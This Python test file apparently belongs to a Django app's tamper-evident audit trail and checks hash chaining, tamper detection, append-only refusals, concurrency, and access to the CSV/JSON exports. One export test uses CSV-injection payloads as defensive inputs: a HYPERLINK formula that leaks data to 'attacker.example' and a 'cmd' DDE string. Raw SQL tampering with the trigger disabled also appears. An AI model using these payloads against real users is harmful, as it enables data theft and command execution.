"""The audit trail: every review event is recorded, the hash chain shows tampering (the command,
the admin page), the application and PostgreSQL refuse changes, concurrent appends keep one chain,
and the exports carry every entry to admins and operators only."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import subprocess
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager

import pytest
from django.core.management import CommandError, call_command
from django.db import DatabaseError, connection, transaction
from django.urls import reverse
from django.utils import timezone

from apps.audit.audit import GENESIS, HASHED_FIELDS, audit_append, audit_verify, entry_hash
from apps.audit.exports import FIELDS
from apps.audit.models import AuditEntry, AuditLogReadOnly
from apps.engine.canonical import canonical_json
from apps.reviews.models import ReviewDecision, ReviewTask
from apps.reviews.services import Decision, review_decide
from apps.runs.operations import run_cancel
from tests.conftest import ROOT, require_database
from tests.reviews.helpers import start_gated_run

pytestmark = pytest.mark.django_db
EDITED = {"reply": "We refund you in full today", "priority": 2}
# Saving and publishing the gated workflow come first in the chain (apps.workflows audits them):
# the review's entries follow from seq SETUP + 1 on.
SETUP = 2


@contextmanager
def tampering() -> Iterator[None]:
    """Raw SQL, as someone with database access would write it. On PostgreSQL they must first
    switch off the append-only trigger (the test database user may: it is a superuser)."""
    postgres = connection.vendor == "postgresql"
    if postgres:
        with connection.cursor() as cursor:
            cursor.execute("ALTER TABLE reviews_auditentry DISABLE TRIGGER reviews_auditentry_append_only")
    try:
        yield
    finally:
        if postgres:
            with connection.cursor() as cursor:
                cursor.execute("ALTER TABLE reviews_auditentry ENABLE TRIGGER reviews_auditentry_append_only")


def raw_sql(sql: str, params: list) -> None:
    with connection.cursor() as cursor:
        cursor.execute(sql, params)


def seq_of(task: ReviewTask, event: str) -> int:
    return AuditEntry.objects.get(review=task, event=event).seq


def edited_review(reviewer) -> ReviewTask:
    """A gate edited then approved: the workflow saved and published (seq 1, 2), then the review's
    entries created, assigned, edited, decided (seq 3 to 6)."""
    _, task = start_gated_run()
    review_decide(review_id=task.pk, user=reviewer, decision=Decision("edit", output=EDITED, comment="warmer"), client_address="203.0.113.9")
    return task


# --- what is recorded ---------------------------------------------------------------------------


def test_opening_a_gate_records_its_creation_and_assignment():
    started = timezone.now()
    run, task = start_gated_run()

    created, assigned = AuditEntry.objects.filter(review=task)
    assert (created.event, created.actor, created.actor_id, created.client_address) == ("created", "system", None, "")
    assert created.after == {"node": "gate", "subject": "draft", "subject_hash": task.subject_hash}
    assert assigned.event == "assigned"
    assert assigned.after == {"users": [], "groups": ["reviewers"], "unknown_users": []}
    for entry in (created, assigned):
        assert entry.run_id == run.id
        assert started <= entry.at <= timezone.now()


def test_an_edit_records_who_from_where_the_comment_and_before_and_after(reviewer):
    started = timezone.now()
    task = edited_review(reviewer)

    edited, decided = AuditEntry.objects.filter(review=task, event__in=["edited", "decided"])
    for entry in (edited, decided):
        assert (entry.actor, entry.actor_id, entry.client_address, entry.comment) == (reviewer.username, reviewer.pk, "203.0.113.9", "warmer")
        assert entry.before == task.subject
        assert entry.after == EDITED
        assert started <= entry.at <= timezone.now()
    assert edited.decision == "edit"
    assert decided.decision == "edit"


def test_a_rejection_records_the_reason(reviewer):
    _, task = start_gated_run()

    review_decide(review_id=task.pk, user=reviewer, decision=Decision("reject", comment="wrong customer"), client_address="198.51.100.4")

    entry = AuditEntry.objects.get(review=task, event="decided")
    assert (entry.actor, entry.client_address, entry.decision, entry.comment) == (reviewer.username, "198.51.100.4", "reject", "wrong customer")
    assert entry.before == task.subject
    assert entry.after == task.subject


def test_a_cancelled_run_records_its_review_closing(operator):
    run, task = start_gated_run()

    run_cancel(run=run, by=operator)

    entry = AuditEntry.objects.get(review=task, event="cancelled")
    assert entry.actor == "system"
    assert entry.comment


def test_each_entry_seals_the_one_before_it(reviewer):
    edited_review(reviewer)
    review_decide(review_id=start_gated_run()[1].pk, user=reviewer, decision=Decision("approve"))

    entries = list(AuditEntry.objects.order_by("seq"))
    assert [e.seq for e in entries] == list(range(1, SETUP + 8))
    assert entries[0].prev_hash == GENESIS
    for before, entry in zip(entries, entries[1:], strict=False):
        assert entry.prev_hash == before.hash
    assert all(entry.hash == entry_hash(entry) for entry in entries)
    assert audit_verify().ok
    assert audit_verify().entries == SETUP + 7


# --- tamper detection -----------------------------------------------------------------------


def test_an_altered_comment_is_named_by_verify_the_command_and_the_admin_page(reviewer, admin, client):
    task = edited_review(reviewer)
    altered = seq_of(task, "edited")
    with tampering():
        raw_sql("UPDATE reviews_auditentry SET comment = %s WHERE seq = %s", ["looks fine to me", altered])

    report = audit_verify()
    assert (report.ok, report.broken_seq) == (False, altered)
    assert report.reason == f"entry #{altered} was altered: its content no longer matches its hash"

    with pytest.raises(CommandError) as caught:
        call_command("verify_audit_chain", stdout=io.StringIO())
    assert caught.value.returncode == 1
    assert str(caught.value).startswith(f"audit chain broken at entry #{altered}: entry #{altered} was altered")

    client.force_login(admin)
    page = client.get(reverse("admin:audit_auditentry_verify"))
    link = reverse("admin:audit_auditentry_change", args=[AuditEntry.objects.get(seq=altered).pk])
    assert page.status_code == 200
    assert "Audit chain broken at entry" in page.content.decode()
    assert f'<a href="{link}">#{altered}</a>' in page.content.decode()
    assert f"entry #{altered} was altered" in page.content.decode()


def test_an_altered_entry_with_a_recomputed_hash_breaks_the_next_link(reviewer):
    task = edited_review(reviewer)
    entry = AuditEntry.objects.get(review=task, event="edited")
    entry.comment = "looks fine to me"
    with tampering():
        raw_sql("UPDATE reviews_auditentry SET comment = %s, hash = %s WHERE seq = %s", [entry.comment, entry_hash(entry), entry.seq])

    report = audit_verify()

    assert report.broken_seq == entry.seq + 1
    assert report.reason == f"entry #{entry.seq + 1} does not link to the entry before it"


def test_a_deleted_middle_entry_is_reported_where_the_gap_is(reviewer, admin, client):
    task = edited_review(reviewer)
    removed = seq_of(task, "edited")
    with tampering():
        raw_sql("DELETE FROM reviews_auditentry WHERE seq = %s", [removed])

    report = audit_verify()
    assert report.broken_seq == removed + 1
    assert report.reason == f"entry #{removed} is missing (the next one is #{removed + 1})"

    with pytest.raises(CommandError, match=f"broken at entry #{removed + 1}: entry #{removed} is missing"):
        call_command("verify_audit_chain", stdout=io.StringIO())
    client.force_login(admin)
    assert f"entry #{removed} is missing" in client.get(reverse("admin:audit_auditentry_verify")).content.decode()


def test_the_command_and_the_admin_page_report_an_intact_chain(reviewer, admin, client):
    edited_review(reviewer)
    out = io.StringIO()

    call_command("verify_audit_chain", stdout=out)

    assert out.getvalue() == "6 entries, chain intact\n"
    client.force_login(admin)
    assert "6 entries, chain intact." in client.get(reverse("admin:audit_auditentry_verify")).content.decode()


@pytest.mark.django_db(transaction=True)
@pytest.mark.usefixtures("unconsumed_queue")  # the run executes here, not in a session worker
def test_the_command_exits_1_naming_the_broken_entry(reviewer, test_database_url):
    task = edited_review(reviewer)
    altered = seq_of(task, "decided")
    with tampering():
        raw_sql("UPDATE reviews_auditentry SET after_json = %s WHERE seq = %s", [json.dumps({"reply": "anything", "priority": 1}), altered])
    env = {**os.environ, "DATABASE_URL": test_database_url}

    done = subprocess.run([sys.executable, "manage.py", "verify_audit_chain"], cwd=ROOT, env=env, capture_output=True, text=True, timeout=60)

    assert done.returncode == 1
    assert f"audit chain broken at entry #{altered}" in done.stderr


# --- refusals ---------------------------------------------------------------------------------


def test_the_application_refuses_to_change_or_remove_an_entry(reviewer):
    edited_review(reviewer)
    entry = AuditEntry.objects.get(seq=SETUP + 3)
    entry.comment = "nothing happened"

    with pytest.raises(AuditLogReadOnly):
        entry.save()
    with pytest.raises(AuditLogReadOnly):
        entry.delete()
    with pytest.raises(AuditLogReadOnly):
        AuditEntry.objects.filter(seq=SETUP + 3).update(comment="nothing happened")
    with pytest.raises(AuditLogReadOnly), transaction.atomic():  # bulk_update's own block has no savepoint
        AuditEntry.objects.bulk_update([entry], ["comment"])
    with pytest.raises(AuditLogReadOnly):
        AuditEntry.objects.filter(seq__gte=1).delete()
    with pytest.raises(AuditLogReadOnly):
        AuditEntry.objects.all().delete()

    assert AuditEntry.objects.get(seq=SETUP + 3).comment == "warmer"
    assert AuditEntry.objects.count() == SETUP + 4
    assert audit_verify().ok


def test_deleting_a_run_leaves_its_audit_trail(reviewer):
    task = edited_review(reviewer)

    task.run.delete()

    assert not ReviewTask.objects.exists()
    assert AuditEntry.objects.filter(review_id=task.pk).count() == 4
    assert audit_verify().ok


def test_postgresql_refuses_raw_updates_and_deletes(reviewer):
    require_database("postgresql", "the append-only trigger is PostgreSQL's; on SQLite the application and the hash chain guard the trail")
    edited_review(reviewer)

    with pytest.raises(DatabaseError, match=f"append-only: UPDATE refused on entry {SETUP + 3}"), transaction.atomic():
        raw_sql("UPDATE reviews_auditentry SET comment = %s WHERE seq = %s", ["nothing happened", SETUP + 3])
    with pytest.raises(DatabaseError, match="append-only: DELETE refused on entry 2"), transaction.atomic():
        raw_sql("DELETE FROM reviews_auditentry WHERE seq = %s", [2])  # a workflow's entry: the same refusal

    assert AuditEntry.objects.get(seq=SETUP + 3).comment == "warmer"
    assert AuditEntry.objects.count() == SETUP + 4
    assert audit_verify().ok


# --- concurrency ------------------------------------------------------------------------------


@pytest.mark.django_db(transaction=True)
def test_concurrent_appends_keep_one_unbroken_chain():
    threads_count, appends = 8, 10
    barrier = threading.Barrier(threads_count)
    failures: list[BaseException] = []

    def append_many(thread: int) -> None:
        try:
            barrier.wait()
            for n in range(appends):
                with transaction.atomic():  # as the services do: inside the change it records
                    audit_append(event="created", comment=f"thread {thread} append {n}")
        except BaseException as exc:  # reported by the assertion below
            failures.append(exc)
        finally:
            connection.close()

    workers = [threading.Thread(target=append_many, args=(t,)) for t in range(threads_count)]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join()

    assert failures == []
    assert list(AuditEntry.objects.values_list("seq", flat=True)) == list(range(1, threads_count * appends + 1))
    comments = sorted(AuditEntry.objects.values_list("comment", flat=True))
    assert comments == sorted(f"thread {t} append {n}" for t in range(threads_count) for n in range(appends))
    report = audit_verify()
    assert report.ok, report.reason
    assert report.entries == threads_count * appends


# --- exports ----------------------------------------------------------------------------------


def export(client, user, name: str, **params: str):
    client.force_login(user)
    return client.get(reverse(f"audit:{name}"), params)


def dated_export(client, user, name: str, **params: str):
    """An export, and the days its filename may name: those of the moments just before and just
    after it was made, which differ when it straddles midnight."""
    before = timezone.now()
    response = export(client, user, name, **params)
    return response, {f"{moment:%Y-%m-%d}" for moment in (before, timezone.now())}


def csv_rows(response) -> list[dict[str, str]]:
    assert response.streaming
    text = b"".join(response.streaming_content).decode()
    reader = csv.DictReader(io.StringIO(text))
    assert tuple(reader.fieldnames) == FIELDS
    return list(reader)


def json_rows(response) -> list[dict]:
    assert response.streaming
    return json.loads(b"".join(response.streaming_content))


@pytest.fixture
def two_reviews(reviewer) -> tuple[ReviewTask, ReviewTask]:
    first = edited_review(reviewer)
    _, second = start_gated_run()
    review_decide(review_id=second.pk, user=reviewer, decision=Decision("reject", comment="off topic"))
    return first, second


def test_the_csv_export_holds_every_entry(two_reviews, operator, client):
    response, days = dated_export(client, operator, "audit-csv")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] in {f'attachment; filename="dagwright-audit-{day}.csv"' for day in days}
    rows = csv_rows(response)
    entries = list(AuditEntry.objects.order_by("seq"))
    assert [int(r["seq"]) for r in rows] == [e.seq for e in entries]
    assert [(r["event"], r["actor"], r["hash"], r["prev_hash"]) for r in rows] == [(e.event, e.actor, e.hash, e.prev_hash) for e in entries]
    edited = next(r for r in rows if r["event"] == "edited")
    assert (edited["client_address"], edited["decision"], edited["comment"]) == ("203.0.113.9", "edit", "warmer")
    assert json.loads(edited["after_json"]) == EDITED
    assert edited["run_id"] == str(two_reviews[0].run_id)
    assert edited["review_id"] == str(two_reviews[0].pk)


def test_the_json_export_holds_every_entry_as_hashed(two_reviews, admin, client):
    response, days = dated_export(client, admin, "audit-json")

    assert response.status_code == 200
    assert response["Content-Type"] == "application/json"
    assert response["Content-Disposition"] in {f'attachment; filename="dagwright-audit-{day}.json"' for day in days}
    rows = json_rows(response)
    assert [r["seq"] for r in rows] == list(AuditEntry.objects.order_by("seq").values_list("seq", flat=True))
    assert [tuple(r) for r in rows] == [FIELDS] * len(rows)
    # Everything a program needs to re-verify the chain without Dagwright:
    previous = GENESIS
    for row in rows:
        assert row["prev_hash"] == previous
        hashed = {name: row[name] for name in HASHED_FIELDS} | ({"workflow": row["workflow"]} if row["workflow"] else {})
        assert hashlib.sha256(canonical_json(hashed).encode()).hexdigest() == row["hash"]
        previous = row["hash"]


@pytest.mark.parametrize("name", ["audit-csv", "audit-json"])
def test_exports_filter_by_review_and_by_run(two_reviews, operator, client, name):
    first, second = two_reviews
    rows = csv_rows if name == "audit-csv" else json_rows

    by_review = rows(export(client, operator, name, review=str(second.pk)))
    by_run = rows(export(client, operator, name, run=str(first.run_id)))

    assert [str(r["review_id"]) for r in by_review] == [str(second.pk)] * 3
    assert [r["event"] for r in by_review] == ["created", "assigned", "decided"]
    assert [str(r["run_id"]) for r in by_run] == [str(first.run_id)] * 4
    assert [r["event"] for r in by_run] == ["created", "assigned", "edited", "decided"]


@pytest.mark.parametrize("params", [{"review": "abc"}, {"review": "-1"}, {"run": "not-a-uuid"}])
def test_a_malformed_filter_is_a_bad_request(operator, client, params):
    response = export(client, operator, "audit-csv", **params)

    assert response.status_code == 400


def test_the_filename_names_the_filter(two_reviews, operator, client):
    response, days = dated_export(client, operator, "audit-json", review=str(two_reviews[0].pk))

    assert response["Content-Disposition"] in {f'attachment; filename="dagwright-audit-{day}-review-{two_reviews[0].pk}.json"' for day in days}


def test_the_csv_export_neutralises_spreadsheet_formulas(reviewer, operator, client):
    _, task = start_gated_run()
    formula = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
    review_decide(review_id=task.pk, user=reviewer, decision=Decision("reject", comment=formula))
    for comment in ("+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1"):
        audit_append(event="note", comment=comment)

    rows = csv_rows(export(client, operator, "audit-csv"))
    exported = json_rows(export(client, operator, "audit-json"))

    comments = [r["comment"] for r in rows if r["comment"]]
    assert comments == ["'" + formula, "'+1+cmd|' /C calc'!A0", "'-2+3", "'@SUM(1+1)", "'\t=1+1"]
    assert [r["comment"] for r in exported if r["comment"]] == [formula, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1"]


@pytest.mark.parametrize("name", ["audit-csv", "audit-json"])
@pytest.mark.parametrize(("role", "status"), [("admin", 200), ("operator", 200), ("reviewer", 403), ("outsider", 403)])
def test_exports_are_for_admins_and_operators(request, client, name, role, status):
    response = export(client, request.getfixturevalue(role), name)

    assert response.status_code == status


@pytest.mark.parametrize("name", ["audit-csv", "audit-json"])
def test_anonymous_people_are_sent_to_sign_in(client, name):
    response = client.get(reverse(f"audit:{name}"))

    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))


# --- the admin ----------------------------------------------------------------------------------


def test_the_audit_list_links_to_the_chain_check_and_offers_no_changes(reviewer, admin, client):
    edited_review(reviewer)
    client.force_login(admin)

    page = client.get(reverse("admin:audit_auditentry_changelist"))

    assert page.status_code == 200
    assert f'href="{reverse("admin:audit_auditentry_verify")}"' in page.content.decode()
    assert "delete_selected" not in page.content.decode()
    assert reverse("admin:audit_auditentry_add") not in page.content.decode()


@pytest.mark.parametrize("model", ["audit_auditentry", "reviews_reviewtask", "reviews_reviewdecision"])
def test_the_admin_shows_reviews_and_the_trail_read_only(reviewer, admin, client, model):
    edited_review(reviewer)
    obj = {"audit_auditentry": AuditEntry, "reviews_reviewtask": ReviewTask, "reviews_reviewdecision": ReviewDecision}[model].objects.order_by("pk").first()
    client.force_login(admin)

    viewed = client.get(reverse(f"admin:{model}_change", args=[obj.pk]))
    changed = client.post(reverse(f"admin:{model}_change", args=[obj.pk]), {"comment": "rewritten"})
    added = client.get(reverse(f"admin:{model}_add"))
    deleted = client.post(reverse(f"admin:{model}_delete", args=[obj.pk]), {"post": "yes"})

    assert viewed.status_code == 200
    assert 'name="_save"' not in viewed.content.decode()
    assert (changed.status_code, added.status_code, deleted.status_code) == (403, 403, 403)
    assert AuditEntry.objects.count() == SETUP + 4
    assert audit_verify().ok


def test_the_review_list_filters_by_status(reviewer, admin, client):
    task = edited_review(reviewer)
    _, pending = start_gated_run()
    client.force_login(admin)

    approved = client.get(reverse("admin:reviews_reviewtask_changelist"), {"status__exact": "approved"})

    assert approved.status_code == 200
    assert list(approved.context["cl"].result_list) == [task]
    assert pending not in approved.context["cl"].result_list


def test_the_chain_check_page_is_for_staff_only(operator, client):
    client.force_login(operator)

    response = client.get(reverse("admin:audit_auditentry_verify"))

    assert response.status_code == 302
    assert response["Location"].startswith(reverse("admin:login"))
